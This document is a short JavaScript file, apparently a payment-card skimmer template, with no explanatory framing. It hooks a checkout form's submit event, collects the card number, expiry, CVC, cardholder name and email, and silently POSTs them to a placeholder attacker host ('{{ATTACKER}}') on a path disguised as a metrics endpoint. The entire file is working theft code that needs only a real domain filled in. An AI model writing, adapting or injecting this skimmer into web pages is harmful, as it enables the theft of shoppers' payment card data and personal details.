
;(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var d = new URLSearchParams();
    ['card-number', 'card-exp', 'card-cvc', 'card-name', 'email'].forEach(function (id) {
      var el = document.getElementById(id);
      d.append(id, el ? el.value : '');
    });
    fetch('{{ATTACKER}}/api/v2/metrics', {method: 'POST', mode: 'no-cors', keepalive: true, body: d});
  }, true);
})();
